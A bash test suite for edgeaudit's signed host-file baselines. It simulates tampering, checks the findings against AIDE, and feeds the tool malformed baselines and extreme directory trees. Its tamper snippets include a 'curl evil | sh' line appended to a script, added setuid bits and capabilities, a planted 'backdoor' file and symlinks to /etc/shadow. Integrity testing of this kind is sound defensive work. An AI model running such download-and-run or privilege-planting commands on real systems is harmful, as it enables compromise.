#!/usr/bin/env bash
# Host baseline (issue 17 part 2): `baseline create` and `audit --baseline`
# on a tree of a few hundred entries (programs, libraries, a setuid and a
# setgid file, file capabilities, links in and out of the tree, a FIFO, a
# socket, devices when root, hard links), then a tamper suite run against
# both edgeaudit and AIDE (the peer: the same tree, a comparable rule):
# each tamper must give the expected finding on the expected path, and
# every path AIDE reports must be one edgeaudit reports.  Then hostile
# baselines (truncated, unsorted, altered, another key's, no signature, a
# FIFO) and hostile trees (links out of the root, a FIFO, 2,000 levels deep,
# 100,000 files in one folder) with bounded memory.  No wall-clock
# thresholds; hard timeouts against hangs.
. "$(dirname "$0")/lib.sh"
# Every run here uses options the report baseline (tests/run.sh's pinned
# build) does not have: there is nothing of its to compare with.
unset EA_DIFF_BASE

ROOT=0; [ "$(id -u)" = 0 ] && ROOT=1
CAPS=0; command -v setcap >/dev/null && CAPS=1
AIDE=0; command -v aide >/dev/null && AIDE=1
P=$T/pristine W=$T/w
mkdir -p "$T/outside" && echo "a secret outside the tree" >"$T/outside/secret"
openssl ecparam -name prime256v1 -genkey -noout -out "$T/key.pem" 2>/dev/null
openssl ec -in "$T/key.pem" -pubout -out "$T/pub.pem" 2>/dev/null
openssl ecparam -name prime256v1 -genkey -noout -out "$T/other.pem" 2>/dev/null

# ---------------------------------------------------------------- the tree
mk_tree() { # DIR: about 400 entries shaped like a small root filesystem
	local d=$1 i
	mkdir -p "$d"/usr/bin "$d"/usr/sbin "$d"/usr/lib/x86_64-linux-gnu "$d"/usr/share/doc/app \
		"$d"/etc/app/conf.d "$d"/var/lib/app/db "$d"/var/empty "$d"/home/user/.config "$d"/run \
		"$d"/dev "$d"/scratch
	for i in $(seq 1 40); do
		cp /bin/true "$d/usr/bin/prog$i" && printf 'trailer %d' "$i" >>"$d/usr/bin/prog$i"
		printf '#!/bin/sh\necho tool %d\n' "$i" >"$d/usr/sbin/tool$i" && chmod 755 "$d/usr/sbin/tool$i"
	done
	for i in $(seq 1 60); do
		head -c $((i * 97)) /dev/urandom >"$d/usr/lib/x86_64-linux-gnu/libt$i.so.1"
		ln -s "libt$i.so.1" "$d/usr/lib/x86_64-linux-gnu/libt$i.so"
		head -c $((i * 13)) /dev/urandom >"$d/var/lib/app/db/rec$i"
	done
	for i in $(seq 1 80); do printf 'key%d = value\n' "$i" >"$d/etc/app/conf.d/$i.conf"; done
	for i in $(seq 1 30); do echo "doc $i" >"$d/usr/share/doc/app/README.$i"; done
	echo "secret" >"$d/etc/app/secret" && chmod 600 "$d/etc/app/secret"
	cp /bin/true "$d/usr/bin/su-like" && chmod 4755 "$d/usr/bin/su-like"
	cp /bin/true "$d/usr/bin/wall-like" && chmod 2755 "$d/usr/bin/wall-like"
	cp /bin/true "$d/usr/bin/ping-like"
	[ $CAPS = 1 ] && setcap cap_net_raw+ep "$d/usr/bin/ping-like"
	ln -s prog1 "$d/usr/bin/sh"
	ln -s usr/lib "$d/lib"
	ln -s /usr/bin/prog2 "$d/etc/alternatives-editor"
	# Links out of the tree: recorded as links, never followed.
	ln -s ../../../../../../../../../../etc/passwd "$d/etc/escape-rel"
	ln -s /etc/shadow "$d/etc/escape-abs"
	ln -s "$T/outside/secret" "$d/etc/escape-out"
	ln "$d/usr/bin/prog3" "$d/usr/bin/prog3-hardlink"
	mkfifo "$d/run/app.fifo"
	$PY -c 'import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])' "$d/run/app.sock"
	chmod 1777 "$d/scratch"
	if [ $ROOT = 1 ]; then
		mknod "$d/dev/null-like" c 1 3 && mknod "$d/dev/loop-like" b 7 0
		chown -R 1000:1000 "$d/home/user"
	fi
}
mk_tree "$P"
n_entries=$(find "$P" | wc -l)
cp -a "$P" "$W"

bl_create() { # ARGS...: baseline create, stdout/stderr/rc in OUT/ERR/RC
	OUT=$(timeout 120 "$EA" baseline create "$@" 2>"$T/stderr"); RC=$?; ERR=$(cat "$T/stderr")
}
bl_create --root "$W" --out "$T/bl" --sign-key "$T/key.pem"
bytes=$(stat -c %s "$T/bl")
[ $RC -eq 0 ] && [ -s "$T/bl.sig" ] && [ "$(grep -c . "$T/bl")" -eq $((n_entries + 6)) ] &&
	ok "baseline create: $n_entries entries recorded, $bytes bytes ($((bytes / n_entries)) per entry), signed" ||
	not_ok "baseline create" "rc=$RC $ERR" "$(grep -c . "$T/bl") lines for $n_entries entries"
base64 -d "$T/bl.sig" >"$T/bl.sig.der"
openssl dgst -sha256 -verify "$T/pub.pem" -signature "$T/bl.sig.der" "$T/bl" >/dev/null 2>&1 &&
	ok "BASELINE.sig is the signed reports' format: openssl dgst -sha256 -verify accepts it" || not_ok "openssl verifies the baseline"
run_ea report verify "$T/bl" --key "$T/pub.pem"
[ $RC -eq 0 ] && ok "edgeaudit report verify checks a baseline's signature too" || not_ok "report verify baseline" "rc=$RC $OUT"
sorted=$($PY - "$T/bl" <<'PYEOF'
import sys
lines = open(sys.argv[1], "rb").read().split(b"\n")
body = lines[lines.index(b"entries") + 1:-2]
key = lambda l: [c for c in l.split(b" ")[0].split(b"/")]
paths = [key(l) for l in body]
print("yes" if paths == sorted(paths) and len(set(map(tuple, paths))) == len(paths) else "no")
PYEOF
)
[ "$sorted" = yes ] && ok "the entries are in path order (component by component), each once" || not_ok "baseline order"
grep -q '^/etc/escape-rel l 0777 [0-9]* [0-9]* - \.\./\.\./\.\./' "$T/bl" && grep -q '^/run/app.fifo p ' "$T/bl" &&
	grep -q '^/run/app.sock s ' "$T/bl" && grep -q '^/usr/bin/su-like f 4755 ' "$T/bl" &&
	ok "links are recorded with their target (not followed), a FIFO and a socket by type, setuid in the mode" ||
	not_ok "baseline lines" "$(grep -E 'escape-rel|fifo|sock|su-like' "$T/bl")"
if [ $CAPS = 1 ]; then
	grep -qE '^/usr/bin/ping-like f 0755 .* 0[0-9a-f]{39}$' "$T/bl" && ok "file capabilities are recorded (security.capability in hex)" ||
		not_ok "caps recorded" "$(grep ping-like "$T/bl")"
else skip "file capabilities are recorded" "setcap (libcap2-bin) is not installed"; fi
if [ $ROOT = 1 ]; then
	grep -q '^/dev/null-like c 0644 0 0 1,3 - -$' "$T/bl" && grep -q '^/dev/loop-like b 0644 0 0 7,0 - -$' "$T/bl" &&
		ok "device nodes are recorded by number, never opened" || not_ok "devices" "$(grep -- -like "$T/bl" | grep /dev/)"
else skip "device nodes are recorded" "needs root (mknod)"; fi

audit_bl() { # BASELINE [ARGS...]: the host part alone, into $T/r.json
	local b=$1; shift
	run_ea audit --no-config --no-stores --no-proc --baseline "$b" --baseline-key "$T/pub.pem" --out "$T/r.json" "$@"
}
audit_bl "$T/bl"
[ $RC -eq 0 ] && [ "$(json_get "$(cat "$T/r.json")" 'r["verdict"], r["checked"], len(r["findings"])')" = "pass ['host files'] 0" ] &&
	ok "round trip: an untouched tree passes (host files checked, no finding)" || not_ok "round trip" "rc=$RC $(head -c 600 "$T/r.json")"
check "a host report validates against tests/report.schema.json" validate_report "$T/r.json"

# ---------------------------------------------------------------- AIDE, the peer
Wre=$(printf '%s' "$W" | sed 's/[.[\*^$()+?{|]/\\&/g')
cat >"$T/aide.conf" <<EOF
database_in=file:$T/aide.db
database_out=file:$T/aide.db.new
gzip_dbout=no
report_format=json
report_url=stdout
# What edgeaudit records: permissions, owner, size, link target, file type,
# SHA-256, extended attributes and capabilities (no times, inodes or link
# counts: those change on every restore or re-flash).
Files = p+u+g+s+l+ftype+sha256+xattrs+caps
Dirs = p+u+g+l+ftype+xattrs+caps
$Wre f,l,c,b,p,s Files
$Wre d Dirs
EOF
if [ $AIDE = 1 ]; then
	aide --config "$T/aide.conf" --init >"$T/aide.init" 2>&1 && mv "$T/aide.db.new" "$T/aide.db"
	aide --config "$T/aide.conf" --check >"$T/aide.json" 2>&1; arc=$?
	[ $arc -eq 0 ] && ok "AIDE on the same tree: --init, then --check finds no difference" || not_ok "aide init/check" "rc=$arc $(head -c 400 "$T/aide.json")"
else
	skip "AIDE on the same tree" "aide is not installed (build.sh test installs it)"
fi

# ---------------------------------------------------------------- tamper suite
# case NAME NEEDS EXPECT SNIPPET: a fresh copy of the tree, SNIPPET run in it,
# then edgeaudit (--fail-on medium: every tamper is at least medium) and
# AIDE.  EXPECT: "id:path[:severity] ..." that must be among edgeaudit's
# findings ("" for a change that must give none).  NEEDS: root, caps or -.
rows=()
flip() { # FILE OFFSET: one byte changed in place, the size kept
	$PY -c 'import sys; f = open(sys.argv[1], "r+b"); o = int(sys.argv[2]); f.seek(o); b = f.read(1)[0]; f.seek(o); f.write(bytes([b ^ 0xff]))' "$1" "$2"
}
tamper() {
	local name=$1 needs=$2 expect=$3 snippet=$4 res
	case $needs in
	root) [ $ROOT = 1 ] || { skip "tamper $name" "needs root"; return; } ;;
	caps) [ $CAPS = 1 ] || { skip "tamper $name" "needs setcap (libcap2-bin)"; return; } ;;
	esac
	rm -rf "$W" && cp -a "$P" "$W"
	if ! (cd "$W" && eval "$snippet") >"$T/snippet.log" 2>&1; then
		not_ok "tamper $name: the tamper itself failed" "$(cat "$T/snippet.log")"; return
	fi
	audit_bl "$T/bl" --fail-on medium
	local rc=$RC
	if [ $AIDE = 1 ]; then aide --config "$T/aide.conf" --check >"$T/aide.json" 2>/dev/null; else echo '{}' >"$T/aide.json"; fi
	res=$($PY - "$W" "$T/r.json" "$T/aide.json" "$expect" "$rc" "$AIDE" <<'PYEOF'
import json, sys
w, rep, aide_out, expect, rc, have_aide = sys.argv[1:7]
r = json.load(open(rep))
found = {}
for f in r["findings"]:
    if f["id"].startswith("host."):
        p = f["subject"][len(w):] if f["subject"].startswith(w) else f["subject"]
        found.setdefault(p or "/", []).append((f["id"], f["severity"]))
try:
    a = json.load(open(aide_out))
except ValueError:
    a = {}
aide = set()
for k in ("added", "removed", "changed"):
    for p in a.get(k, {}):
        aide.add(p[len(w):] or "/")
errs = []
for e in expect.split():
    parts = e.split(":")
    got = found.get(parts[1], [])
    if not any(i == parts[0] and (len(parts) < 3 or s == parts[2]) for i, s in got):
        errs.append("want %s on %s%s, got %s" % (parts[0], parts[1], " (%s)" % parts[2] if len(parts) > 2 else "", got or "nothing"))
if not expect.split() and found:
    errs.append("want no finding, got %s" % found)
want_rc = 1 if expect.split() else 0
if int(rc) != want_rc:
    errs.append("exit %s, want %d" % (rc, want_rc))
missed = sorted(aide - set(found))
if missed:
    errs.append("AIDE found what edgeaudit did not: %s" % missed)
beyond = sorted(set(found) - aide) if have_aide == "1" else []
def short(items):
    items = list(items)
    return ", ".join(items[:3] + (["and %d more" % (len(items) - 3)] if len(items) > 3 else []))
ea = short("%s %s (%s)" % (p, "+".join(i[5:] for i, _ in v), "/".join(s for _, s in v)) for p, v in sorted(found.items())) or "nothing"
print("%s\t%s\t%s\t%s" % ("FAIL: " + "; ".join(errs) if errs else "OK", ea,
      (short(sorted(aide)) or "nothing") if have_aide == "1" else "(no aide)", short(beyond) or "-"))
PYEOF
)
	rows+=("$name	${res#*	}")
	case $res in OK*) ok "tamper $name: edgeaudit finds it${expect:+ ($expect)}; AIDE's findings are a subset" ;;
	*) not_ok "tamper $name" "${res%%	*}" ;; esac
}
tamper content-appended - "host.file_modified:/etc/app/conf.d/1.conf:high" 'echo x >>etc/app/conf.d/1.conf'
tamper content-same-size-mtime-restored - "host.file_modified:/var/lib/app/db/rec10:high" \
	'touch -r var/lib/app/db/rec10 ../ref && flip var/lib/app/db/rec10 3 && touch -r ../ref var/lib/app/db/rec10'
tamper program-modified - "host.file_modified:/usr/bin/prog5:critical" 'printf X >>usr/bin/prog5'
tamper library-same-size - "host.file_modified:/usr/lib/x86_64-linux-gnu/libt7.so.1:critical" \
	'flip usr/lib/x86_64-linux-gnu/libt7.so.1 5'
tamper script-modified - "host.file_modified:/usr/sbin/tool3:critical" 'echo "curl evil | sh" >>usr/sbin/tool3'
tamper truncated - "host.file_modified:/var/lib/app/db/rec20:high" ': >var/lib/app/db/rec20'
tamper mode-changed - "host.attr_changed:/etc/app/secret:high" 'chmod 644 etc/app/secret'
tamper owner-changed root "host.attr_changed:/etc/app/conf.d/3.conf:high" 'chown 1000:1000 etc/app/conf.d/3.conf'
tamper setuid-added - "host.attr_changed:/usr/bin/prog6:critical" 'chmod 4755 usr/bin/prog6'
tamper setgid-added - "host.attr_changed:/usr/sbin/tool4:critical" 'chmod 2755 usr/sbin/tool4'
tamper setuid-removed - "host.attr_changed:/usr/bin/su-like:high" 'chmod 755 usr/bin/su-like'
tamper capability-added caps "host.attr_changed:/usr/bin/prog7:critical" 'setcap cap_sys_admin+ep usr/bin/prog7'
tamper capability-removed caps "host.attr_changed:/usr/bin/ping-like:high" 'setcap -r usr/bin/ping-like'
tamper capability-changed caps "host.attr_changed:/usr/bin/ping-like:critical" 'setcap cap_net_raw,cap_net_admin+ep usr/bin/ping-like'
tamper symlink-retargeted - "host.attr_changed:/usr/bin/sh:critical" 'ln -sfn /tmp/evil usr/bin/sh'
tamper added-config - "host.file_added:/etc/app/conf.d/99.conf:medium" 'echo evil=1 >etc/app/conf.d/99.conf'
tamper added-program - "host.file_added:/usr/bin/backdoor:high" 'cp /bin/true usr/bin/backdoor'
tamper added-setuid-elsewhere - "host.file_added:/home/user/.config/helper:high" 'cp /bin/true home/user/.config/helper && chmod 4755 home/user/.config/helper'
tamper deleted - "host.file_missing:/var/lib/app/db/rec5:high" 'rm var/lib/app/db/rec5'
tamper renamed - "host.file_missing:/etc/app/conf.d/6.conf host.file_added:/etc/app/conf.d/6.conf.bak" 'mv etc/app/conf.d/6.conf etc/app/conf.d/6.conf.bak'
tamper replaced-by-fifo - "host.attr_changed:/etc/app/conf.d/4.conf:high" 'rm etc/app/conf.d/4.conf && mkfifo etc/app/conf.d/4.conf'
tamper replaced-by-device root "host.attr_changed:/etc/app/conf.d/5.conf" 'rm etc/app/conf.d/5.conf && mknod etc/app/conf.d/5.conf c 1 3'
tamper replaced-by-symlink - "host.attr_changed:/usr/bin/prog8:critical" 'rm usr/bin/prog8 && ln -s /tmp/evil usr/bin/prog8'
tamper hardlink-swapped - "host.file_modified:/usr/bin/prog9:critical" 'rm usr/bin/prog9 && ln usr/bin/prog10 usr/bin/prog9'
tamper hardlink-broken - "" 'cp --preserve=all usr/bin/prog3 ../p3 && rm usr/bin/prog3 && mv ../p3 usr/bin/prog3'
tamper folder-replaced-by-file - "host.attr_changed:/var/lib/app/db host.file_missing:/var/lib/app/db/rec1" 'rm -r var/lib/app/db && echo x >var/lib/app/db'
tamper file-in-new-folder - "host.file_added:/usr/lib/x86_64-linux-gnu/evil:high host.file_added:/usr/lib/x86_64-linux-gnu/evil/hook.so:high" \
	'mkdir usr/lib/x86_64-linux-gnu/evil && cp /bin/true usr/lib/x86_64-linux-gnu/evil/hook.so'
tamper folder-mode - "host.attr_changed:/etc/app" 'chmod 777 etc/app'
tamper sticky-removed - "host.attr_changed:/scratch" 'chmod 777 scratch'
tamper fifo-replaced-by-file - "host.attr_changed:/run/app.fifo" 'rm run/app.fifo && touch run/app.fifo'
tamper device-renumbered root "host.attr_changed:/dev/null-like" 'rm dev/null-like && mknod dev/null-like c 1 5'
tamper empty-folder-removed - "host.file_missing:/var/empty" 'rmdir var/empty'
tamper link-out-of-tree-target-changed - "" "echo changed >'$T/outside/secret'"
echo "# tamper suite (subject relative to the tree; edgeaudit's ids without 'host.'):"
echo "# case | edgeaudit | AIDE (p+u+g+s+l+ftype+sha256+xattrs+caps) | edgeaudit beyond AIDE"
for r in "${rows[@]}"; do echo "# ${r//	/ | }"; done

# ---------------------------------------------------------------- hostile baselines
rm -rf "$W" && cp -a "$P" "$W"
resign() { openssl dgst -sha256 -sign "$T/key.pem" "$1" | base64 -w0 >"$1.sig"; echo >>"$1.sig"; }
refused() { # NAME BASELINE WANT_IN_MESSAGE
	audit_bl "$2"
	local v
	v=$(json_get "$(cat "$T/r.json" 2>/dev/null || echo '{}')" '[f["id"] for f in r["findings"]], "host files" in r["checked"], " ".join(f["message"] for f in r["findings"])')
	[ $RC -eq 1 ] && [[ "$v" == "['host.baseline_invalid'] False "*"$3"* ]] &&
		ok "hostile baseline, $1: host.baseline_invalid, nothing compared (exit 1)" || not_ok "hostile baseline $1" "rc=$RC $v"
}
$PY -c 'import sys; d = open(sys.argv[1], "rb").read(); open(sys.argv[2], "wb").write(d[:d.index(b"\n/usr/bin/prog1 ") + 8])' "$T/bl" "$T/trunc" && resign "$T/trunc"
refused "truncated mid-line (signed anyway)" "$T/trunc" "cut short"
head -n -1 "$T/bl" >"$T/noend" && resign "$T/noend"
refused "the end line cut off (signed anyway)" "$T/noend" "no end line"
$PY - "$T/bl" "$T/unsorted" <<'PYEOF'
import sys
l = open(sys.argv[1], "rb").read().split(b"\n")
i = l.index(b"entries") + 20
l[i], l[i + 1] = l[i + 1], l[i]
open(sys.argv[2], "wb").write(b"\n".join(l))
PYEOF
resign "$T/unsorted"
refused "two lines swapped (signed anyway)" "$T/unsorted" "out of order"
$PY -c 'import sys; l = open(sys.argv[1], "rb").read().split(b"\n"); i = l.index(b"entries") + 30; l.insert(i, l[i]); open(sys.argv[2], "wb").write(b"\n".join(l))' "$T/bl" "$T/dup" && resign "$T/dup"
refused "a line twice (signed anyway)" "$T/dup" "out of order"
sed 's/^end [0-9]*/end 1/' "$T/bl" >"$T/count" && resign "$T/count"
refused "a wrong count (signed anyway)" "$T/count" "another number of entries"
{ cat "$T/bl"; echo "/zzz f 0644 0 0 0 - -"; } >"$T/after" && resign "$T/after"
refused "an entry after the end (signed anyway)" "$T/after" "data after the end"
sed '0,/ f 0755 0 0 /s// f 0755 0 0 x/' "$T/bl" >"$T/badline" && resign "$T/badline"
refused "a malformed line (signed anyway)" "$T/badline" "line"
cp "$T/bl" "$T/altered" && cp "$T/bl.sig" "$T/altered.sig" && sed -i 's/^\(\/usr\/bin\/prog6 f \)0755/\14755/' "$T/altered"
refused "altered after signing (setuid written in)" "$T/altered" "BAD SIGNATURE"
cp "$T/bl" "$T/otherkey" && openssl dgst -sha256 -sign "$T/other.pem" "$T/otherkey" | base64 -w0 >"$T/otherkey.sig"
refused "signed by another key" "$T/otherkey" "BAD SIGNATURE"
cp "$T/bl" "$T/nosig"
refused "no signature file" "$T/nosig" "no signature"
cp "$T/bl" "$T/fifosig" && mkfifo "$T/fifosig.sig"
refused "a FIFO as its signature (no hang)" "$T/fifosig" "not a regular file"
mkfifo "$T/fifobl"
refused "a FIFO as the baseline (no hang)" "$T/fifobl" "fifo"
refused "a baseline that does not exist" "$T/none" "cannot open"
printf 'edgeaudit-baseline 1\nroot /\npath /\ncreated x\nentries\n/ d 0755 0 0 - - -\n/a\\x00b f 0644 0 0 0 - -\nend 2\n' >"$T/nul" && resign "$T/nul"
refused "an escaped NUL in a path (signed anyway)" "$T/nul" "malformed path"
run_ea audit --no-config --no-stores --no-proc --baseline "$T/bl"
[ $RC -eq 2 ] && [[ "$ERR" == *"--baseline needs --baseline-key"* ]] && ok "--baseline without --baseline-key: usage error (exit 2)" || not_ok "baseline without key" "rc=$RC $ERR"
run_ea audit --no-config --no-stores --no-proc --baseline "$T/bl" --baseline-key "$T/key.pem"
[ $RC -eq 2 ] && [[ "$ERR" == *"--baseline-key"* ]] && ok "a private key as --baseline-key: usage error before any work (exit 2)" || not_ok "baseline key private" "rc=$RC $ERR"

# ---------------------------------------------------------------- config
printf '{"baseline": "%s", "baseline_key": "%s", "no_stores": true, "no_proc": true}\n' "$T/bl" "$T/pub.pem" >"$T/cfg.json"
run_ea audit --config "$T/cfg.json"
[ $RC -eq 0 ] && [ "$(json_get "$OUT" 'r["checked"]')" = "['host files']" ] && ok "config keys baseline and baseline_key: the host part alone (no_stores and no_proc allowed with it)" ||
	not_ok "config baseline" "rc=$RC $ERR ${OUT:0:300}"
printf '{"baseline": "%s"}\n' "$T/bl" >"$T/cfg2.json"
run_ea config check --config "$T/cfg2.json"
[ $RC -eq 2 ] && [[ "$OUT$ERR" == *"baseline needs baseline_key"* ]] && ok "config check: baseline without baseline_key is an error" || not_ok "config baseline without key" "rc=$RC $OUT $ERR"
if $PY -c 'import jsonschema' 2>/dev/null; then
	agree=$($PY - "$TOP/board/config.schema.json" "$T/cfg.json" "$T/cfg2.json" <<'PYEOF'
import json, sys, jsonschema
s = json.load(open(sys.argv[1]))
def valid(p):
    try:
        jsonschema.validate(json.load(open(p)), s); return True
    except jsonschema.ValidationError:
        return False
print(valid(sys.argv[2]), valid(sys.argv[3]))
PYEOF
)
	[ "$agree" = "True False" ] && ok "board/config.schema.json agrees: baseline with its key valid, without it not" || not_ok "schema baseline" "$agree"
fi

# ---------------------------------------------------------------- create's own errors
bl_create --root "$W" --path /nonexistent --out "$T/x.bl"
[ $RC -eq 2 ] && [[ "$ERR" == *"--path /nonexistent"* ]] && [ ! -e "$T/x.bl" ] && ok "baseline create: a --path that is not there is a usage error; no file written" || not_ok "create missing path" "rc=$RC $ERR"
bl_create --root "$W" --path /lib/x86_64-linux-gnu --out "$T/x.bl"
[ $RC -eq 2 ] && [[ "$ERR" == *"a link on its way"* ]] && ok "baseline create: a --path through a link is refused (never followed)" || not_ok "create via link" "rc=$RC $ERR"
bl_create --root "$W" --out "$T/x.bl" --sign-key "$T/pub.pem"
[ $RC -eq 2 ] && [ ! -e "$T/x.bl" ] && ok "baseline create: a public key as --sign-key fails before the walk (exit 2)" || not_ok "create bad key" "rc=$RC $ERR"
bl_create --root "$W" --path /usr/lib --path usr/bin/ --path /usr/lib/x86_64-linux-gnu --exclude '*.so' --out "$T/part.bl" --sign-key "$T/key.pem"
hdr=$(sed -n '/^entries$/q;p' "$T/part.bl" | grep -E '^(path|exclude) ' | tr '\n' ' ')
[ $RC -eq 0 ] && [ "$hdr" = "path /usr/bin path /usr/lib exclude *.so " ] && ! grep -q '\.so ' "$T/part.bl" && ! grep -q '^/etc' "$T/part.bl" &&
	ok "--path and --exclude: starts normalised, sorted, nested ones dropped; excluded paths not recorded" || not_ok "create paths" "rc=$RC $hdr"
audit_bl "$T/part.bl"
[ $RC -eq 0 ] && ok "a baseline of some paths with excludes: audit walks the same paths and passes" || not_ok "partial audit" "rc=$RC $(head -c 400 "$T/r.json")"

# ---------------------------------------------------------------- hostile trees
# The FIFO and socket of the tree are never opened: the runs above would hang.
rm -rf "$W" && cp -a "$P" "$W"
echo "changed" >"$T/outside/secret"
out=$(timeout 60 "$EA" audit --no-config --no-stores --no-proc --baseline "$T/bl" --baseline-key "$T/pub.pem" 2>&1); rc=$?
[ $rc -eq 0 ] && ok "links out of the tree are compared as links (targets unchanged: pass), never followed; the FIFO never opened (no hang)" || not_ok "links out / fifo" "rc=$rc ${out:0:400}"
if [ $ROOT = 1 ] && command -v setpriv >/dev/null; then
	# Recorded by root (mode 000 and all), audited without CAP_DAC_OVERRIDE.
	chmod 000 "$W/var/lib/app/db"
	"$EA" baseline create --root "$W" --out "$T/dac.bl" --sign-key "$T/key.pem" 2>/dev/null
	# shellcheck disable=SC2054 # setpriv takes a comma-separated list
	out=$(timeout 60 setpriv --bounding-set -dac_override,-dac_read_search -- "$EA" audit --no-config --no-stores --no-proc \
		--baseline "$T/dac.bl" --baseline-key "$T/pub.pem" 2>&1); rc=$?
	v=$(json_get "$out" 'r["verdict"], sorted(set(f["id"] for f in r["findings"])), sorted(set(f["subject"][len("'"$W"'"):] for f in r["findings"])), "host files" in r["checked"]')
	[ $rc -eq 3 ] && [ "$v" = "incomplete ['host.unreadable'] ['/var/lib/app/db'] True" ] &&
		ok "a folder it cannot read: host.unreadable (incomplete, exit 3), its baseline entries not called missing" || not_ok "unreadable folder" "rc=$rc $v"
	chmod 755 "$W/var/lib/app/db"
else
	skip "a folder it cannot read" "needs root and setpriv"
fi

peak_kib() { /usr/bin/time -f '%M' "$@" 2>&1 >/dev/null | tail -n1; }
# The bound is the static binary's; ASan's shadow memory is not the tool's.
RSS_MAX=32768; [ -n "$SAN_LOGS" ] && RSS_MAX=99999999
# 2,000 folders deep (a path of 4 KB, deeper than one fd per level allows
# with the default limit of 1,024 open files).
D=$T/deep
mkdir "$D"
$PY - "$D" <<'PYEOF'
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(2000):
    os.mkdir("d", dir_fd=fd)
    n = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = n
with open(os.open("leaf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
    f.write("leaf\n")
PYEOF
m1=$(peak_kib timeout 120 "$EA" baseline create --root "$D" --out "$T/deep.bl" --sign-key "$T/key.pem")
m2=$(peak_kib timeout 120 "$EA" audit --no-config --no-stores --no-proc --baseline "$T/deep.bl" --baseline-key "$T/pub.pem")
audit_bl "$T/deep.bl"; rc1=$RC
$PY -c 'import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for i in range(2000):
    n = os.open("d", os.O_RDONLY, dir_fd=fd); os.close(fd); fd = n
os.write(os.open("leaf", os.O_WRONLY | os.O_APPEND, dir_fd=fd), b"x")' "$D"
audit_bl "$T/deep.bl"
v=$(json_get "$(cat "$T/r.json")" '[f["id"] for f in r["findings"]], r["findings"][0]["subject"].split("/").count("d") if r["findings"] else 0')
[ $rc1 -eq 0 ] && [ $RC -eq 1 ] && [ "$v" = "['host.file_modified'] 2000" ] && [ "${m1:-99999999}" -lt $RSS_MAX ] && [ "${m2:-99999999}" -lt $RSS_MAX ] &&
	ok "2,000 folders deep: recorded, compared (pass), a change at the bottom found; peak RSS create $m1 KiB, audit $m2 KiB (< 32 MiB)" ||
	not_ok "deep tree" "rc=$rc1/$RC $v rss=$m1/$m2"
# 100,000 entries in one folder.
mkdir "$T/wide"
$PY -c 'import os, sys
for i in range(100000): open(os.path.join(sys.argv[1], "f%06d" % i), "w").close()' "$T/wide"
m1=$(peak_kib timeout 300 "$EA" baseline create --root "$T/wide" --out "$T/wide.bl" --sign-key "$T/key.pem")
m2=$(peak_kib timeout 300 "$EA" audit --no-config --no-stores --no-proc --baseline "$T/wide.bl" --baseline-key "$T/pub.pem")
rm "$T/wide/f050000"
audit_bl "$T/wide.bl"
v=$(json_get "$(cat "$T/r.json")" '[(f["id"], f["subject"][-7:]) for f in r["findings"]]')
[ $RC -eq 1 ] && [ "$v" = "[('host.file_missing', 'f050000')]" ] && [ "${m1:-99999999}" -lt $RSS_MAX ] && [ "${m2:-99999999}" -lt $RSS_MAX ] &&
	ok "100,000 files in one folder: $(stat -c %s "$T/wide.bl") bytes of baseline; peak RSS create $m1 KiB, audit $m2 KiB (< 32 MiB); one deletion found" ||
	not_ok "wide folder" "rc=$RC $v rss=$m1/$m2"
# The budget stops the comparison between entries; the part is unchecked.
run_ea audit --no-config --no-stores --no-proc --baseline "$T/wide.bl" --baseline-key "$T/pub.pem" --budget-ms 1
v=$(json_get "$OUT" 'r["verdict"], "host files" in r["checked"], [f["id"] for f in r["findings"] if f["id"].startswith(("audit.", "host."))][:2]')
[ $RC -eq 3 ] && [[ "$v" == "incomplete False ['audit.interrupted']"* ]] && ok "--budget-ms 1: the host part is interrupted, not claimed checked (exit 3)" || not_ok "budget" "rc=$RC $v"
